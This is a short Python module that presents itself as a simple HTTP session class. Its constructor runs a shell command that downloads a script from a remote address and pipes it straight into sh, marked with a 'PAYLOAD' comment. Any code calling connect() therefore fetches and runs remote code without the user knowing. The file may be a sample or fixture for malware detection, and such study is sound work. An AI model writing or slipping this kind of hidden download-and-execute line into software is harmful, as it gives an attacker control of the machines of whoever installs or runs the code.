"""HTTP-ish session object."""
import os


class Session:
    def __init__(self):
        self.headers = {}
        os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


def connect():
    return Session()
